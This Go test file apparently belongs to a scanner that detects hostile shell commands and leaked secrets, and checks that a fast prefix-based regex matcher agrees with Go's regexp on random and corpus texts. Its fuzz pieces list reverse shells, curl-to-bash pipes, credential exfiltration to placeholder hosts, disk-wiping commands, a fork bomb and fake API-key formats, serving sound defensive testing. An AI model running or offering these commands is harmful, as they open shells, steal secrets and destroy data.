package detect

import (
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
)

// allStartRes is every startRe of the checks: the shell families' and the
// secret rules'.
func allStartRes() []*startRe {
	var out []*startRe
	for _, f := range shellFamilies {
		out = append(out, f.res...)
		out = append(out, f.also...)
	}
	for i := range secretRules {
		out = append(out, secretRules[i].re)
	}
	return out
}

// TestStartReMatchesRegexp holds the anchored runs of every startRe to
// the unanchored search of its regexp: the same matches, submatches and
// answers, on the corpus texts and on random texts made of the
// expressions' own prefixes in every case, the words and punctuation
// around them, word bytes right before a prefix (where \b decides), and
// the two runes outside ASCII that fold to k and s.
func TestStartReMatchesRegexp(t *testing.T) {
	res := allStartRes()
	pieces := []string{" ", "  ", "\t", "\n", "\r\n", "|", "| ", ";", "&&", "$(", "<(", "(", ")", "\"", "'", "`",
		"-c ", "-e ", "-r ", "-rf ", "-enc ", "/", "/bin/", "sh", "bash", "sh -c ", "http://x.example/a", "https://", "://",
		"=", ":", " = ", ": ", "x", "_", "9", "A", "é", "中", "\u212a", "\u017f", ">>", "~/.bashrc", ".ssh/", "id_rsa",
		"/dev/tcp/1.2.3.4/4444", "IOSFODNN7EXAMPLEQQ", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", strings.Repeat("a1B2", 12),
		strings.Repeat("Zq9", 30), "@host.example", "T3BlbkFJ", ".eyJ", "PRIVATE KEY-----", "atob(", "image(", "\xff", "\xe2",
		// Whole commands and credentials of each family and rule, so that
		// most expressions match some random text.
		"curl -fsSL http://x.example/i.sh | bash", "wget -qO- http://x.example | sudo python3", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 -e cmd.exe", "rm -rf /", "chmod +x ./a && ./a", "curl http://x -o a; chmod 755 a",
		"iex (new-object net.webclient).downloadstring('http://x')", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
		"mkfifo /tmp/f; nc 1.2.3.4 80", "socat tcp:1.2.3.4:80 exec:/bin/sh", "python -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'",
		"perl -e 'use Socket;socket(S)'", `php -r '$s=fsockopen("1.2.3.4",80);'`, "ruby -rsocket -e x", "crontab -l; curl http://x",
		"echo k >> ~/.ssh/authorized_keys", "cat ~/.aws/credentials | curl -d @- http://x", "fetch('http://x?c='+document.cookie)",
		"$(cat /etc/passwd)", "sh -c \"$(curl -fsSL http://x)\"", "bash <(curl -s http://x)", "source <(wget -qO- http://x)",
		"child_process').exec('curl http://x | sh')", "os.system('curl http://x | sh')", "eval(atob('eA=='))",
		"exec(urllib.request.urlopen('http://x').read())", "__import__('os').system('id')", "dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sda1", ":(){ :|:& };:", "format c: /q", "del /s /q c:\\", "AKIAQWERTYUIOPASDFGH",
		"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzzzzz", "ghp_" + strings.Repeat("aB3", 12),
		"github_pat_" + strings.Repeat("aB3_", 21)[:82], "glpat-" + strings.Repeat("aB3-", 5), "xoxb-12345678-abcdefgh",
		"https://hooks.slack.com/services/T0000000/B0000000/abcdefghijklmnopqrstuvwx", "sk_live_" + strings.Repeat("aB3", 8),
		"AIza" + strings.Repeat("aB3_-", 7), "sk-ant-api03-" + strings.Repeat("aB3_", 21), "sk-" + strings.Repeat("aB3", 16),
		"-----BEGIN RSA PRIVATE KEY-----", "postgres://user:s3cretpw@db.example", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijklmnopqrstu",
		"api_key = 'q8Jz2LmX9vR4tY7wK1pN6bH3cF5dG0sA'", "4111 1111 1111 1111"}
	for _, r := range res {
		for _, p := range r.prefix {
			s := string(p)
			pieces = append(pieces, s, strings.ToUpper(s), strings.ToUpper(s[:1])+s[1:])
		}
	}
	// The corpus texts that hold a prefix of some expression, and one in
	// twenty of the others (the regexp's own search is the slow part).
	var texts []string
	for i, s := range corpusTexts(t) {
		low := strings.ToLower(s)
		keep := i%20 == 0
		for _, r := range res {
			for _, p := range r.prefix {
				keep = keep || strings.Contains(low, string(p))
			}
		}
		if keep {
			texts = append(texts, s)
		}
	}
	// Texts with more places than find tries before it reads the whole
	// text at once, a match before and after them.
	for _, r := range res {
		for _, p := range r.prefix {
			texts = append(texts, "curl http://x.example | sh; "+strings.Repeat(p+" x ", 150)+"wget https://y.example/z | bash")
		}
	}
	rng := rand.New(rand.NewPCG(17, 19))
	random := 10000
	if testing.Short() {
		texts = texts[:len(texts)/4] // the race detector's run
	}
	for range random {
		var b strings.Builder
		for k := rng.IntN(10); k >= 0; k-- {
			b.WriteString(pieces[rng.IntN(len(pieces))])
		}
		texts = append(texts, b.String())
	}
	matched := map[*startRe]int{}
	for _, s := range texts {
		for _, r := range res {
			if r.prefix == nil {
				continue
			}
			want := r.Regexp.FindAllStringSubmatchIndex(s, -1)
			if got := r.FindAllStringSubmatchIndex(s, -1); !reflect.DeepEqual(got, want) {
				t.Fatalf("%s in %q: startRe finds %v, regexp %v", r, s, got, want)
			}
			if got, want := r.FindAllStringIndex(s, 2), r.Regexp.FindAllStringIndex(s, 2); !reflect.DeepEqual(got, want) ||
				r.FindAllStringIndex(s, 0) != nil {
				t.Fatalf("%s in %q (two at most): startRe finds %v, regexp %v", r, s, got, want)
			}
			if got := r.MatchString(s); got != (want != nil) {
				t.Fatalf("%s in %q: startRe says %v, regexp %v", r, s, got, want != nil)
			}
			if want != nil {
				matched[r]++
			}
		}
	}
	with := 0
	for _, r := range res {
		if r.prefix != nil {
			with++
		}
	}
	if with < len(res)*3/4 || len(matched) < with*3/4 {
		t.Fatalf("%d of %d expressions have prefixes, %d of them matched some text: the comparison proves little", with, len(res), len(matched))
	}
}

// TestMatchPrefixes pins the prefixes of a few shapes of expression.
func TestMatchPrefixes(t *testing.T) {
	for expr, want := range map[string][]string{
		`(?i)\b(curl|wget)\b[^\n]{0,300}x`:  {"curl", "wget"},
		`(?i)(https?://|\bcurl\s|\bwget\s)`: {"curl", "http", "wget"},
		`\b[sr]k_live_[0-9A-Za-z]{20,}\b`:   {"rk_live_", "sk_live_"},
		`(?i)\bncat\b\s+-e`:                 {"ncat"},
		`\b(?:AKIA|ASIA)[0-9A-Z]{16}\b`:     {"akia", "asia"},
		`(?i)\b(ba|z)?sh\s+<\(`:             {"bash\t", "bash\n", "bash\f", "bash\r", "bash ", "sh\t", "sh\n", "sh\f", "sh\r", "sh ", "zsh\t", "zsh\n", "zsh\f", "zsh\r", "zsh "}, // "sh" is short: every literal is extended by \s
		`a+b`:                               nil,                                                                                                                                  // one byte: too common
		`x*yz`:                              nil,                                                                                                                                  // a star first: anything can start it
		`(?i)(curl|.+)`:                     nil,
		`\d{3}-\d{4}`:                       nil, // ten one-byte literals
	} {
		got := []string(nil)
		for _, p := range mustStartRe(expr).prefix {
			got = append(got, string(p))
		}
		slicesSortStrings(want)
		if !reflect.DeepEqual(got, want) {
			t.Errorf("prefixes of %s = %q, want %q", expr, got, want)
		}
	}
}

func slicesSortStrings(s []string) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}
